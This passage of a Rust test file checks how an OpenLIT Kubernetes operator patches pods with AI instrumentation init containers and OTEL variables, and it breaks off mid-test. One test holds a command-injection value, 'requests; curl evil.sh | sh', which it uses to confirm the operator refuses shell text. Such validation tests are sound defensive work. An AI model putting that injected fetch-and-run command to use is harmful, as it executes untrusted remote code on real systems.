//! The injection rules of SPEC §2–4, written as "this pod and these resources give exactly this
//! patch / this skip reason".

use openlit_operator::crd::AutoInstrumentation;
use openlit_operator::inject::{Decision, InjectConfig, Mutation, Policy, mutate};
use serde_json::{Value, json};

const OPERATOR_NS: &str = "openlit";

fn policy(yaml: &str) -> Policy {
    let resource: AutoInstrumentation = serde_saphyr::from_str(yaml).expect("resource YAML");
    Policy::compile(&resource, "ghcr.io/openlit")
}

fn pod(yaml: &str) -> Value {
    serde_saphyr::from_str(yaml).expect("pod YAML")
}

fn run(pod: &Value, namespace: &str, policies: &[Policy]) -> Mutation {
    mutate(
        pod,
        namespace,
        policies,
        &InjectConfig {
            operator_namespace: OPERATOR_NS.into(),
            ..InjectConfig::default()
        },
    )
}

fn patched(pod: &Value, mutation: &Mutation) -> Value {
    let mut out = pod.clone();
    json_patch::patch(&mut out, &mutation.patch).expect("patch applies");
    out
}

/// The final environment of a container as kubelet sees the list: name → value or valueFrom.
fn env_of(pod: &Value, container: usize) -> Vec<(String, Value)> {
    pod["spec"]["containers"][container]["env"]
        .as_array()
        .map(|env| {
            env.iter()
                .map(|e| {
                    (
                        e["name"].as_str().unwrap().to_string(),
                        e.get("value")
                            .cloned()
                            .unwrap_or_else(|| e["valueFrom"].clone()),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

fn env_value(pod: &Value, container: usize, name: &str) -> Option<String> {
    let env = env_of(pod, container);
    let matches: Vec<_> = env.iter().filter(|(n, _)| n == name).collect();
    assert!(matches.len() <= 1, "{name} defined {} times", matches.len());
    matches.first().map(|(_, v)| {
        v.as_str()
            .map(str::to_string)
            .unwrap_or_else(|| v.to_string())
    })
}

fn chosen(mutation: &Mutation) -> String {
    match &mutation.decision {
        Decision::Instrumented { resource, .. } | Decision::Skipped { resource, .. } => {
            resource.to_string()
        }
        Decision::Untouched(reason) => format!("untouched: {reason}"),
    }
}

fn resource_yaml(namespace: &str, name: &str, created: &str, selector: &str) -> String {
    format!(
        "apiVersion: openlit.io/v1alpha1\nkind: AutoInstrumentation\nmetadata:\n  name: {name}\n  namespace: {namespace}\n  generation: 3\n  creationTimestamp: \"{created}\"\nspec:\n  selector:\n{selector}\n  otlp:\n    endpoint: http://collector.observability:4318\n"
    )
}

fn app_selector() -> &'static str {
    "    matchLabels:\n      app: chat"
}

const CHAT_POD: &str = r#"
apiVersion: v1
kind: Pod
metadata:
  name: chat
  labels: {app: chat}
spec:
  containers:
  - name: app
    image: python:3.12-slim
"#;

#[test]
fn a_typical_pod_gets_exactly_this_patch() {
    let policies = [policy(&resource_yaml(
        "shop",
        "chat-ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let pod = pod(CHAT_POD);
    let mutation = run(&pod, "shop", &policies);
    let expected = json!([
        {"op": "add", "path": "/metadata/annotations", "value": {
            "openlit.io/instrumented-by": "shop/chat-ai",
            "openlit.io/instrumented-generation": "3"}},
        {"op": "add", "path": "/spec/initContainers", "value": [{
            "name": "auto-instrumentation-openlit",
            "image": "ghcr.io/openlit/openlit-ai-instrumentation:latest",
            "imagePullPolicy": "IfNotPresent",
            "command": ["python3", "/usr/local/bin/setup-instrumentation.py"],
            "args": ["--target", "/instrumentation-packages", "--on-failure", "continue"],
            "env": [
                {"name": "INSTRUMENTATION_PROVIDER", "value": "openlit"},
                {"name": "TARGET_PATH", "value": "/instrumentation-packages"}],
            "volumeMounts": [{"name": "instrumentation-packages", "mountPath": "/instrumentation-packages"}],
            "resources": {"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"cpu": "200m", "memory": "256Mi"}},
            "securityContext": {
                "allowPrivilegeEscalation": false, "capabilities": {"drop": ["ALL"]}, "privileged": false,
                "readOnlyRootFilesystem": true, "runAsNonRoot": true, "runAsUser": 65532,
                "seccompProfile": {"type": "RuntimeDefault"}}}]},
        {"op": "add", "path": "/spec/volumes", "value": [
            {"name": "instrumentation-packages", "emptyDir": {"sizeLimit": "500Mi"}}]},
        {"op": "add", "path": "/spec/containers/0/volumeMounts", "value": [
            {"name": "instrumentation-packages", "mountPath": "/instrumentation-packages", "readOnly": true}]},
        {"op": "add", "path": "/spec/containers/0/env", "value": [
            {"name": "OPENLIT_K8S_POD_NAME", "valueFrom": {"fieldRef": {"fieldPath": "metadata.name"}}},
            {"name": "OPENLIT_K8S_NODE_NAME", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}},
            {"name": "PYTHONPATH", "value": "/instrumentation-packages"},
            {"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "http://collector.observability:4318"},
            {"name": "OTEL_EXPORTER_OTLP_TIMEOUT", "value": "30000"},
            {"name": "OTEL_SERVICE_NAME", "value": "chat"},
            {"name": "OTEL_SERVICE_NAMESPACE", "value": "shop"},
            {"name": "OTEL_DEPLOYMENT_ENVIRONMENT", "value": "kubernetes"},
            {"name": "OTEL_INSTRUMENTATION_GENAI_CAPTURE_MESSAGE_CONTENT", "value": "true"},
            {"name": "OTEL_RESOURCE_ATTRIBUTES", "value": "k8s.namespace.name=shop,k8s.pod.name=$(OPENLIT_K8S_POD_NAME),k8s.node.name=$(OPENLIT_K8S_NODE_NAME),k8s.container.name=app,service.namespace=shop,service.instance.id=shop.$(OPENLIT_K8S_POD_NAME).app,deployment.environment=kubernetes"}]}
    ]);
    assert_eq!(serde_json::to_value(&mutation.patch).unwrap(), expected);
    assert!(mutation.warnings.is_empty(), "{:?}", mutation.warnings);
}

#[test]
fn match_expressions_with_each_operator_select_as_kubernetes_does() {
    let cases = [
        ("In", "[chat, search]", json!({"app": "chat"}), true),
        ("In", "[search]", json!({"app": "chat"}), false),
        ("NotIn", "[search]", json!({"app": "chat"}), true),
        ("NotIn", "[chat]", json!({"app": "chat"}), false),
        ("Exists", "", json!({"app": "chat"}), true),
        ("Exists", "", json!({"tier": "web"}), false),
        ("DoesNotExist", "", json!({"tier": "web"}), true),
        ("DoesNotExist", "", json!({"app": "chat"}), false),
    ];
    for (operator, values, labels, selected) in cases {
        let values_line = if values.is_empty() {
            String::new()
        } else {
            format!("\n        values: {values}")
        };
        let selector = format!(
            "    matchExpressions:\n      - key: app\n        operator: {operator}{values_line}"
        );
        let policies = [policy(&resource_yaml(
            "shop",
            "ai",
            "2026-01-01T00:00:00Z",
            &selector,
        ))];
        let mut pod = pod(CHAT_POD);
        pod["metadata"]["labels"] = labels.clone();
        let mutation = run(&pod, "shop", &policies);
        let instrumented = matches!(mutation.decision, Decision::Instrumented { .. });
        assert_eq!(
            instrumented, selected,
            "{operator} {values} on {labels}: {:?}",
            mutation.decision
        );
    }
}

#[test]
fn ignore_keeps_a_selected_pod_untouched() {
    let selector = format!(
        "{}\n  ignore:\n    matchLabels:\n      canary: \"true\"",
        app_selector()
    );
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        &selector,
    ))];
    let mut canary = pod(CHAT_POD);
    canary["metadata"]["labels"]["canary"] = json!("true");
    let mutation = run(&canary, "shop", &policies);
    assert_eq!(
        mutation.decision,
        Decision::Untouched("no AutoInstrumentation selects the pod".into())
    );
    assert!(mutation.patch.is_empty());
    assert!(matches!(
        run(&pod(CHAT_POD), "shop", &policies).decision,
        Decision::Instrumented { .. }
    ));
}

#[test]
fn the_oldest_of_two_matches_wins_then_the_name() {
    let older = policy(&resource_yaml(
        "shop",
        "zeta",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ));
    let newer = policy(&resource_yaml(
        "shop",
        "alpha",
        "2026-02-01T00:00:00Z",
        app_selector(),
    ));
    let mutation = run(&pod(CHAT_POD), "shop", &[newer.clone(), older.clone()]);
    assert_eq!(chosen(&mutation), "shop/zeta");
    assert_eq!(
        mutation.warnings,
        vec!["AutoInstrumentation shop/zeta chosen over shop/alpha which also select this pod"]
    );

    let same_time_b = policy(&resource_yaml(
        "shop",
        "bravo",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ));
    let same_time_a = policy(&resource_yaml(
        "shop",
        "able",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ));
    assert_eq!(
        chosen(&run(
            &pod(CHAT_POD),
            "shop",
            &[same_time_b.clone(), same_time_a.clone()]
        )),
        "shop/able"
    );
    assert_eq!(
        chosen(&run(&pod(CHAT_POD), "shop", &[same_time_a, same_time_b])),
        "shop/able"
    );
}

#[test]
fn the_pods_namespace_beats_the_operator_namespace() {
    let global = policy(&resource_yaml(
        OPERATOR_NS,
        "default",
        "2020-01-01T00:00:00Z",
        app_selector(),
    ));
    let local = policy(&resource_yaml(
        "shop",
        "local",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ));
    let other = policy(&resource_yaml(
        "elsewhere",
        "other",
        "2019-01-01T00:00:00Z",
        app_selector(),
    ));
    assert_eq!(
        chosen(&run(
            &pod(CHAT_POD),
            "shop",
            &[global.clone(), local, other.clone()]
        )),
        "shop/local"
    );
    assert_eq!(
        chosen(&run(&pod(CHAT_POD), "shop", &[global, other.clone()])),
        "openlit/default"
    );
    assert_eq!(
        chosen(&run(&pod(CHAT_POD), "shop", &[other])),
        "untouched: no AutoInstrumentation selects the pod"
    );
}

#[test]
fn protected_namespaces_are_never_mutated() {
    let global = policy(&resource_yaml(
        OPERATOR_NS,
        "default",
        "2020-01-01T00:00:00Z",
        app_selector(),
    ));
    for namespace in [OPERATOR_NS, "kube-system"] {
        let local = policy(&resource_yaml(
            namespace,
            "local",
            "2026-01-01T00:00:00Z",
            app_selector(),
        ));
        let mutation = run(&pod(CHAT_POD), namespace, &[global.clone(), local]);
        assert_eq!(
            mutation.decision,
            Decision::Untouched(format!(
                "pods in namespace {namespace} are never instrumented"
            ))
        );
        assert!(mutation.patch.is_empty());
    }
}

#[test]
fn enabled_false_switches_a_selected_pod_off_with_a_reason() {
    let yaml = resource_yaml("shop", "off", "2026-01-01T00:00:00Z", app_selector())
        + "  python:\n    instrumentation:\n      enabled: false\n";
    let older_enabled = policy(&resource_yaml(
        "shop",
        "on",
        "2026-06-01T00:00:00Z",
        app_selector(),
    ));
    let pod = pod(CHAT_POD);
    let mutation = run(&pod, "shop", &[policy(&yaml), older_enabled]);
    let reason = "AutoInstrumentation shop/off has python.instrumentation.enabled=false";
    assert_eq!(
        mutation.decision,
        Decision::Skipped {
            resource: "shop/off".parse_ref(),
            reason: reason.into()
        }
    );
    assert!(
        mutation
            .warnings
            .iter()
            .any(|w| w == &format!("pod not instrumented: {reason}"))
    );
    let after = patched(&pod, &mutation);
    assert_eq!(
        after["metadata"]["annotations"],
        json!({"openlit.io/instrumentation-skipped": reason})
    );
    assert_eq!(after["spec"], pod["spec"]);
}

trait ParseRef {
    fn parse_ref(&self) -> openlit_operator::inject::ResourceRef;
}
impl ParseRef for str {
    fn parse_ref(&self) -> openlit_operator::inject::ResourceRef {
        let (namespace, name) = self.split_once('/').unwrap();
        openlit_operator::inject::ResourceRef {
            namespace: namespace.into(),
            name: name.into(),
        }
    }
}

#[test]
fn a_resource_without_python_instruments_with_every_default() {
    let mutation = run(
        &pod(CHAT_POD),
        "shop",
        &[policy(&resource_yaml(
            "shop",
            "minimal",
            "2026-01-01T00:00:00Z",
            app_selector(),
        ))],
    );
    let after = patched(&pod(CHAT_POD), &mutation);
    let init = &after["spec"]["initContainers"][0];
    assert_eq!(init["name"], "auto-instrumentation-openlit");
    assert_eq!(
        init["image"],
        "ghcr.io/openlit/openlit-ai-instrumentation:latest"
    );
    assert_eq!(init["imagePullPolicy"], "IfNotPresent");
    assert_eq!(
        env_value(&after, 0, "OTEL_EXPORTER_OTLP_TIMEOUT").as_deref(),
        Some("30000")
    );
}

#[test]
fn provider_version_and_pull_policy_pick_the_image() {
    let yaml = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + "  python:\n    instrumentation:\n      provider: openllmetry\n      version: 1.2.3\n      imagePullPolicy: Always\n";
    let after = patched(
        &pod(CHAT_POD),
        &run(&pod(CHAT_POD), "shop", &[policy(&yaml)]),
    );
    let init = &after["spec"]["initContainers"][0];
    assert_eq!(init["name"], "auto-instrumentation-openllmetry");
    assert_eq!(
        init["image"],
        "ghcr.io/openlit/openllmetry-ai-instrumentation:1.2.3"
    );
    assert_eq!(init["imagePullPolicy"], "Always");
    assert_eq!(
        init["env"][0],
        json!({"name": "INSTRUMENTATION_PROVIDER", "value": "openllmetry"})
    );

    let custom = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + "  python:\n    instrumentation:\n      provider: custom\n      customInitImage: registry.example.com:5000/team/instr@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n";
    let after = patched(
        &pod(CHAT_POD),
        &run(&pod(CHAT_POD), "shop", &[policy(&custom)]),
    );
    assert_eq!(
        after["spec"]["initContainers"][0]["image"],
        "registry.example.com:5000/team/instr@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
    );
}

#[test]
fn python_version_picks_the_image_built_for_that_cpython() {
    let image_for = |instrumentation: &str| {
        let yaml = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
            + "  python:\n    instrumentation:\n"
            + instrumentation;
        let after = patched(
            &pod(CHAT_POD),
            &run(&pod(CHAT_POD), "shop", &[policy(&yaml)]),
        );
        after["spec"]["initContainers"][0]["image"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert_eq!(
        image_for(
            "      provider: openinference\n      version: 1.2.3\n      pythonVersion: \"3.12\"\n"
        ),
        "ghcr.io/openlit/openinference-ai-instrumentation:1.2.3-py3.12"
    );
    assert_eq!(
        image_for("      pythonVersion: \"3.13\"\n"),
        "ghcr.io/openlit/openlit-ai-instrumentation:latest-py3.13"
    );
    assert_eq!(
        image_for("      provider: openinference\n      version: 1.2.3\n"),
        "ghcr.io/openlit/openinference-ai-instrumentation:1.2.3",
        "without pythonVersion the tag is unchanged"
    );
    assert_eq!(
        image_for(
            "      provider: custom\n      pythonVersion: \"3.12\"\n      customInitImage: registry.example.com/team/instr:2\n"
        ),
        "registry.example.com/team/instr:2",
        "a custom image is used as given"
    );

    let unsupported = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + "  python:\n    instrumentation:\n      pythonVersion: \"2.7\"\n";
    let compiled = policy(&unsupported);
    assert!(
        compiled
            .errors
            .iter()
            .any(|e| e.contains("pythonVersion '2.7' is not one of 3.11, 3.12, 3.13")),
        "{:?}",
        compiled.errors
    );
    let mutation = run(&pod(CHAT_POD), "shop", &[compiled]);
    assert!(
        matches!(&mutation.decision, Decision::Skipped { reason, .. }
            if reason == "AutoInstrumentation shop/ai is invalid (1 error, see its status and Events)"),
        "{:?}",
        mutation.decision
    );
}

#[test]
fn the_containers_own_variables_win_and_are_never_duplicated() {
    let yaml = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + "  python:\n    instrumentation:\n      env:\n      - name: OTEL_SERVICE_NAME\n        value: from-resource\n      - name: LOG_LEVEL\n        value: debug\n      - name: API_KEY\n        valueFrom:\n          secretKeyRef: {name: llm, key: token}\n";
    let mut user = pod(CHAT_POD);
    user["spec"]["containers"][0]["env"] = json!([
        {"name": "OTEL_SERVICE_NAME", "value": "checkout"},
        {"name": "LOG_LEVEL", "value": "info"},
    ]);
    let after = patched(&user, &run(&user, "shop", &[policy(&yaml)]));
    assert_eq!(
        env_value(&after, 0, "OTEL_SERVICE_NAME").as_deref(),
        Some("checkout")
    );
    assert_eq!(env_value(&after, 0, "LOG_LEVEL").as_deref(), Some("info"));
    assert_eq!(
        env_value(&after, 0, "API_KEY").as_deref(),
        Some(r#"{"secretKeyRef":{"key":"token","name":"llm"}}"#)
    );
    // The resource's env beats derived values when the container is silent.
    let after = patched(
        &pod(CHAT_POD),
        &run(&pod(CHAT_POD), "shop", &[policy(&yaml)]),
    );
    assert_eq!(
        env_value(&after, 0, "OTEL_SERVICE_NAME").as_deref(),
        Some("from-resource")
    );
}

#[test]
fn pythonpath_is_prepended_and_valuefrom_pythonpath_skips_the_container() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let mut user = pod(CHAT_POD);
    user["spec"]["containers"][0]["env"] =
        json!([{"name": "PYTHONPATH", "value": "/app/src:/app/lib"}]);
    let after = patched(&user, &run(&user, "shop", &policies));
    assert_eq!(
        env_value(&after, 0, "PYTHONPATH").as_deref(),
        Some("/instrumentation-packages:/app/src:/app/lib")
    );

    let mut from = pod(CHAT_POD);
    from["spec"]["containers"][0]["env"] = json!([{"name": "PYTHONPATH", "valueFrom": {"configMapKeyRef": {"name": "paths", "key": "pythonpath"}}}]);
    let mutation = run(&from, "shop", &policies);
    let reason =
        "no container was selected: app: PYTHONPATH is set from valueFrom and cannot be extended";
    assert_eq!(
        mutation.decision,
        Decision::Skipped {
            resource: "shop/ai".parse_ref(),
            reason: reason.into()
        }
    );
    assert_eq!(
        patched(&from, &mutation)["metadata"]["annotations"]["openlit.io/instrumentation-skipped"],
        reason
    );
}

#[test]
fn resource_attributes_merge_per_key_with_the_user_winning_in_a_stable_order() {
    let yaml = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + "  resource:\n    environment: production\n";
    let mut user = pod(CHAT_POD);
    user["spec"]["containers"][0]["env"] = json!([
        {"name": "OTEL_RESOURCE_ATTRIBUTES", "value": "team=search,deployment.environment=staging,k8s.pod.name=mine"},
    ]);
    let expected = "team=search,deployment.environment=staging,k8s.pod.name=mine,k8s.namespace.name=shop,k8s.node.name=$(OPENLIT_K8S_NODE_NAME),k8s.container.name=app,service.namespace=shop,service.instance.id=shop.$(OPENLIT_K8S_POD_NAME).app";
    for _ in 0..3 {
        let after = patched(&user, &run(&user, "shop", &[policy(&yaml)]));
        assert_eq!(
            env_value(&after, 0, "OTEL_RESOURCE_ATTRIBUTES").as_deref(),
            Some(expected)
        );
        // The downward-API variables precede the attribute list so `$(VAR)` expands.
        let names: Vec<String> = env_of(&after, 0).into_iter().map(|(n, _)| n).collect();
        let attributes_at = names
            .iter()
            .position(|n| n == "OTEL_RESOURCE_ATTRIBUTES")
            .unwrap();
        assert!(
            names
                .iter()
                .position(|n| n == "OPENLIT_K8S_POD_NAME")
                .unwrap()
                < attributes_at
        );
        assert!(
            names
                .iter()
                .position(|n| n == "OPENLIT_K8S_NODE_NAME")
                .unwrap()
                < attributes_at
        );
        assert_eq!(
            env_value(&after, 0, "OTEL_DEPLOYMENT_ENVIRONMENT").as_deref(),
            Some("production")
        );
    }
}

#[test]
fn generate_name_pods_get_a_service_name_and_attributes_resolved_by_the_kubelet() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let mut generated = pod(CHAT_POD);
    generated["metadata"]
        .as_object_mut()
        .unwrap()
        .remove("name");
    generated["metadata"]["generateName"] = json!("chat-worker-");
    let after = patched(&generated, &run(&generated, "shop", &policies));
    assert_eq!(
        env_value(&after, 0, "OTEL_SERVICE_NAME").as_deref(),
        Some("chat-worker")
    );
    let attributes = env_value(&after, 0, "OTEL_RESOURCE_ATTRIBUTES").unwrap();
    assert!(
        attributes.contains("k8s.pod.name=$(OPENLIT_K8S_POD_NAME)"),
        "{attributes}"
    );
}

#[test]
fn every_owner_kind_gives_its_own_semantic_key() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let cases = [
        (
            "ReplicaSet",
            "chat-7d9f8b6c5d",
            json!({"pod-template-hash": "7d9f8b6c5d"}),
            vec![
                "k8s.deployment.name=chat",
                "k8s.replicaset.name=chat-7d9f8b6c5d",
            ],
            "chat",
        ),
        (
            "ReplicaSet",
            "standalone-rs",
            json!({}),
            vec!["k8s.replicaset.name=standalone-rs"],
            "standalone-rs",
        ),
        (
            "StatefulSet",
            "vector-db",
            json!({}),
            vec!["k8s.statefulset.name=vector-db"],
            "vector-db",
        ),
        (
            "DaemonSet",
            "node-agent",
            json!({}),
            vec!["k8s.daemonset.name=node-agent"],
            "node-agent",
        ),
        (
            "Job",
            "embed-batch",
            json!({}),
            vec!["k8s.job.name=embed-batch"],
            "embed-batch",
        ),
        (
            "Job",
            "nightly-29384720",
            json!({}),
            vec!["k8s.cronjob.name=nightly", "k8s.job.name=nightly-29384720"],
            "nightly",
        ),
    ];
    for (kind, name, extra_labels, keys, service) in cases {
        let mut owned = pod(CHAT_POD);
        owned["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": kind, "name": name, "uid": "u", "controller": true}]);
        for (k, v) in extra_labels.as_object().unwrap() {
            owned["metadata"]["labels"][k] = v.clone();
        }
        owned["metadata"].as_object_mut().unwrap().remove("name");
        let after = patched(&owned, &run(&owned, "shop", &policies));
        let attributes = env_value(&after, 0, "OTEL_RESOURCE_ATTRIBUTES").unwrap();
        for key in &keys {
            assert!(
                attributes.contains(key),
                "{kind} {name}: {attributes} lacks {key}"
            );
        }
        assert!(
            !attributes.contains("k8s.deployment.name")
                || kind == "ReplicaSet" && name == "chat-7d9f8b6c5d",
            "{attributes}"
        );
        assert_eq!(
            env_value(&after, 0, "OTEL_SERVICE_NAME").as_deref(),
            Some(service),
            "{kind}"
        );
    }
}

#[test]
fn service_name_follows_annotation_then_labels_then_workload() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let mut p = pod(CHAT_POD);
    p["metadata"]["labels"]["app.kubernetes.io/name"] = json!("by-name");
    assert_eq!(
        env_value(
            &patched(&p, &run(&p, "shop", &policies)),
            0,
            "OTEL_SERVICE_NAME"
        )
        .as_deref(),
        Some("by-name")
    );
    p["metadata"]["labels"]["app.kubernetes.io/instance"] = json!("by-instance");
    assert_eq!(
        env_value(
            &patched(&p, &run(&p, "shop", &policies)),
            0,
            "OTEL_SERVICE_NAME"
        )
        .as_deref(),
        Some("by-instance")
    );
    p["metadata"]["annotations"] =
        json!({"resource.opentelemetry.io/service.name": "by-annotation"});
    assert_eq!(
        env_value(
            &patched(&p, &run(&p, "shop", &policies)),
            0,
            "OTEL_SERVICE_NAME"
        )
        .as_deref(),
        Some("by-annotation")
    );
}

#[test]
fn container_choice_follows_images_annotations_and_sidecars() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let p = pod(r#"
metadata: {name: mixed, labels: {app: chat}}
spec:
  containers:
  - {name: api, image: "python:3.12-alpine"}
  - {name: proxy, image: "nginx:1.27", securityContext: {readOnlyRootFilesystem: true}}
  - {name: istio-proxy, image: "docker.io/istio/proxyv2:1.22"}
  - {name: tools, image: "busybox:1.36"}
  - {name: worker, image: "registry.local/acme/array-service:2", command: ["python3", "-m", "worker"]}
  - {name: xray, image: "registry.local/acme/array-service:2"}
"#);
    let mutation = run(&p, "shop", &policies);
    let Decision::Instrumented { containers, .. } = &mutation.decision else {
        panic!("{:?}", mutation.decision)
    };
    assert_eq!(containers, &vec!["api".to_string(), "worker".to_string()]);
    let reasons: Vec<&str> = mutation
        .skipped_containers
        .iter()
        .map(|(n, _)| n.as_str())
        .collect();
    assert_eq!(reasons, vec!["proxy", "istio-proxy", "tools", "xray"]);
    let after = patched(&p, &mutation);
    assert!(
        after["spec"]["containers"][1].get("env").is_none(),
        "read-only sidecar untouched"
    );
    assert!(
        mutation
            .warnings
            .iter()
            .any(|w| w.contains("istio-proxy: a known sidecar (istio-proxy)")),
        "{:?}",
        mutation.warnings
    );
    assert!(
        after["metadata"]["annotations"]["openlit.io/instrumentation-skipped"]
            .as_str()
            .unwrap()
            .contains("tools: image busybox:1.36 is a utility image")
    );

    let mut annotated = p.clone();
    annotated["metadata"]["annotations"] = json!({
        "openlit.io/container-languages": "xray:python, api:go",
        "openlit.io/exclude-containers": "worker",
    });
    let mutation = run(&annotated, "shop", &policies);
    let Decision::Instrumented { containers, .. } = &mutation.decision else {
        panic!()
    };
    assert_eq!(containers, &vec!["xray".to_string()]);

    let mut forced = p.clone();
    forced["metadata"]["annotations"] = json!({"openlit.io/inject-python": "TRUE", "openlit.io/include-containers": "proxy,istio-proxy,api"});
    let Decision::Instrumented { containers, .. } = run(&forced, "shop", &policies).decision else {
        panic!()
    };
    assert_eq!(containers, vec!["api".to_string(), "proxy".to_string()]);
}

#[test]
fn an_instrumented_pod_is_returned_unchanged() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let first = run(&pod(CHAT_POD), "shop", &policies);
    let once = patched(&pod(CHAT_POD), &first);
    let again = run(&once, "shop", &policies);
    assert_eq!(
        again.decision,
        Decision::Untouched("the pod is already instrumented by shop/ai".into())
    );
    assert!(again.patch.is_empty());

    let mut carries_init = pod(CHAT_POD);
    carries_init["spec"]["initContainers"] =
        json!([{"name": "auto-instrumentation-openlit", "image": "x"}]);
    let again = run(&carries_init, "shop", &policies);
    assert!(again.patch.is_empty());
    assert!(matches!(again.decision, Decision::Untouched(_)));
}

#[test]
fn the_opt_out_label_and_annotation_leave_the_pod_alone() {
    let policies = [policy(&resource_yaml(
        "shop",
        "ai",
        "2026-01-01T00:00:00Z",
        app_selector(),
    ))];
    let mut labelled = pod(CHAT_POD);
    labelled["metadata"]["labels"]["openlit.io/inject"] = json!("false");
    let mutation = run(&labelled, "shop", &policies);
    assert_eq!(
        mutation.decision,
        Decision::Untouched("the pod opts out with the label openlit.io/inject=false".into())
    );
    assert!(mutation.patch.is_empty() && mutation.warnings.is_empty());

    let mut annotated = pod(CHAT_POD);
    annotated["metadata"]["annotations"] = json!({"openlit.io/inject": "false"});
    let mutation = run(&annotated, "shop", &policies);
    assert_eq!(
        mutation.decision,
        Decision::Untouched("the pod opts out with the annotation openlit.io/inject=false".into())
    );
    assert!(mutation.patch.is_empty());
}

#[test]
fn custom_packages_are_separate_arguments_and_shell_text_is_refused() {
    let yaml = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + "  python:\n    instrumentation:\n      customPackages: \"langchain>=0.1.0, openai[datalib]==1.2.3\"\n";
    let after = patched(
        &pod(CHAT_POD),
        &run(&pod(CHAT_POD), "shop", &[policy(&yaml)]),
    );
    assert_eq!(
        after["spec"]["initContainers"][0]["args"],
        json!([
            "--target",
            "/instrumentation-packages",
            "--on-failure",
            "continue",
            "--package",
            "langchain>=0.1.0",
            "--package",
            "openai[datalib]==1.2.3"
        ])
    );
    assert!(
        after["spec"]["initContainers"][0]["command"]
            .as_array()
            .unwrap()
            .iter()
            .all(|a| a != "/bin/sh" && a != "-c")
    );

    let hostile = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector())
        + "  python:\n    instrumentation:\n      customPackages: \"requests; curl evil.sh | sh\"\n";
    let compiled = policy(&hostile);
    assert!(!compiled.errors.is_empty());
    let mutation = run(&pod(CHAT_POD), "shop", &[compiled]);
    let Decision::Skipped { reason, .. } = &mutation.decision else {
        panic!("{:?}", mutation.decision)
    };
    assert!(
        reason.starts_with("AutoInstrumentation shop/ai is invalid ("),
        "{reason}"
    );
    assert!(
        patched(&pod(CHAT_POD), &mutation)["spec"]
            .get("initContainers")
            .is_none()
    );
}

#[test]
fn headers_and_timeout_become_otel_variables() {
    let yaml = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector()).replace(
        "    endpoint: http://collector.observability:4318\n",
        "    endpoint: http://collector.observability:4318\n    headers: \"Authorization=Bearer x,tenant=a\"\n    timeout: 7\n",
    );
    let after = patched(
        &pod(CHAT_POD),
        &run(&pod(CHAT_POD), "shop", &[policy(&yaml)]),
    );
    assert_eq!(
        env_value(&after, 0, "OTEL_EXPORTER_OTLP_HEADERS").as_deref(),
        Some("Authorization=Bearer x,tenant=a")
    );
    assert_eq!(
        env_value(&after, 0, "OTEL_EXPORTER_OTLP_TIMEOUT").as_deref(),
        Some("7000")
    );
}

#[test]
fn headers_from_a_secret_travel_as_a_reference_never_as_a_value() {
    let yaml = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector()).replace(
        "    endpoint: http://collector.observability:4318\n",
        "    endpoint: http://collector.observability:4318\n    headersFrom:\n      secretKeyRef: {name: otlp-credentials, key: headers}\n",
    );
    let compiled = policy(&yaml);
    assert!(compiled.errors.is_empty(), "{:?}", compiled.errors);
    let mutation = run(&pod(CHAT_POD), "shop", &[compiled]);
    assert!(matches!(mutation.decision, Decision::Instrumented { .. }));
    let after = patched(&pod(CHAT_POD), &mutation);
    let headers: Vec<Value> = after["spec"]["containers"][0]["env"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["name"] == "OTEL_EXPORTER_OTLP_HEADERS")
        .cloned()
        .collect();
    assert_eq!(
        headers,
        [json!({
            "name": "OTEL_EXPORTER_OTLP_HEADERS",
            "valueFrom": {"secretKeyRef": {"name": "otlp-credentials", "key": "headers"}}
        })]
    );

    // The container's own variable still wins, as for every derived variable.
    let own = pod(r#"
metadata: {name: chat, labels: {app: chat}}
spec:
  containers:
  - name: app
    image: python:3.12
    env: [{name: OTEL_EXPORTER_OTLP_HEADERS, value: "x-tenant=own"}]
"#);
    let after = patched(&own, &run(&own, "shop", &[policy(&yaml)]));
    assert_eq!(
        env_value(&after, 0, "OTEL_EXPORTER_OTLP_HEADERS").as_deref(),
        Some("x-tenant=own")
    );
}

#[test]
fn headers_and_headers_from_together_make_the_resource_invalid() {
    let yaml = resource_yaml("shop", "ai", "2026-01-01T00:00:00Z", app_selector()).replace(
        "    endpoint: http://collector.observability:4318\n",
